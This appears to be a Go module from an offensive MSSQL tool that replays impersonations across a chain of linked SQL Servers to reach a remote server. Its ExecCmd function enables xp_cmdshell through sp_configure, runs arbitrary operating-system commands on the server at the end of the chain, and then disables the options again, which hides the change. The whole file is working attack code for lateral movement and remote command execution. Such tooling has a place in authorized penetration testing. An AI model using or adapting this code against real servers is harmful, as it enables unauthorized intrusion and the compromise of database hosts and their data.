// Package actions executes operator actions at the tail of a previously
// discovered linked-server chain, replaying the chain's recorded
// impersonations instead of re-running discovery.
package actions

import (
	"context"
	"fmt"
	"strings"

	"github.com/rs/zerolog"

	"github.com/sqlhopper/sqlhopper/internal/mssql"
	"github.com/sqlhopper/sqlhopper/internal/traversal"
)

// Runner binds actions to one session.
type Runner struct {
	sess *mssql.Session
	log  zerolog.Logger
}

// NewRunner builds a runner over an established session.
func NewRunner(sess *mssql.Session, log zerolog.Logger) *Runner {
	return &Runner{sess: sess, log: log}
}

// Result is a materialized query result.
type Result struct {
	Columns []string
	Rows    [][]string
}

// Query parses a chain specification, aligns the session identities it
// records, and runs stmt at the chain tail.
func (r *Runner) Query(ctx context.Context, chainSpec, stmt string) (*Result, error) {
	chain, err := traversal.ParseSpec(chainSpec)
	if err != nil {
		return nil, err
	}
	var res Result
	err = r.sess.WithChainIdentities(ctx, chain, func() error {
		cols, rows, err := r.sess.QueryChain(ctx, chain, stmt)
		if err != nil {
			return err
		}
		res.Columns = cols
		res.Rows = rows
		return nil
	})
	if err != nil {
		return nil, err
	}
	return &res, nil
}

// ExecCmd runs an operating-system command through xp_cmdshell at the chain
// tail. With enable set, xp_cmdshell (and the advanced-options gate in front
// of it) is switched on first and switched back off afterwards.
func (r *Runner) ExecCmd(ctx context.Context, chainSpec, cmd string, enable bool) ([]string, error) {
	chain, err := traversal.ParseSpec(chainSpec)
	if err != nil {
		return nil, err
	}
	var output []string
	err = r.sess.WithChainIdentities(ctx, chain, func() error {
		if enable {
			if err := r.setOption(ctx, chain, "show advanced options", 1); err != nil {
				return fmt.Errorf("enable advanced options: %w", err)
			}
			if err := r.setOption(ctx, chain, "xp_cmdshell", 1); err != nil {
				return fmt.Errorf("enable xp_cmdshell: %w", err)
			}
			defer func() {
				if err := r.setOption(ctx, chain, "xp_cmdshell", 0); err != nil {
					r.log.Warn().Err(err).Msg("failed to disable xp_cmdshell")
				}
				if err := r.setOption(ctx, chain, "show advanced options", 0); err != nil {
					r.log.Warn().Err(err).Msg("failed to hide advanced options")
				}
			}()
		}

		stmt := fmt.Sprintf("EXEC master..xp_cmdshell N'%s'", strings.ReplaceAll(cmd, "'", "''"))
		_, rows, err := r.sess.QueryChain(ctx, chain, stmt)
		if err != nil {
			return err
		}
		for _, row := range rows {
			if len(row) > 0 {
				output = append(output, row[0])
			}
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	return output, nil
}

// setOption flips an sp_configure knob at the chain tail.
func (r *Runner) setOption(ctx context.Context, chain traversal.Chain, option string, value int) error {
	stmt := fmt.Sprintf("EXEC sp_configure N'%s', %d; RECONFIGURE;", strings.ReplaceAll(option, "'", "''"), value)
	return r.sess.ExecChain(ctx, chain, stmt)
}
